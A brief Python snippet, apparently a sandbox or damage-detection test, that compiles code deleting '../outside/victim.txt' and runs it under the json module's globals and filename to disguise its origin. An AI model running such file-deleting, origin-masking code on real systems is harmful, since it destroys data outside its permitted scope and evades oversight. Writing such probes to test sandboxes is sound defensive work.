# The program runs as a function whose globals are somebody else's.
# damage: deleted
import json
import types

space = vars(json)
code = compile("import os as _o; _o.unlink('../outside/victim.txt')", json.__file__, "exec")
types.FunctionType(code, space, "loads")()
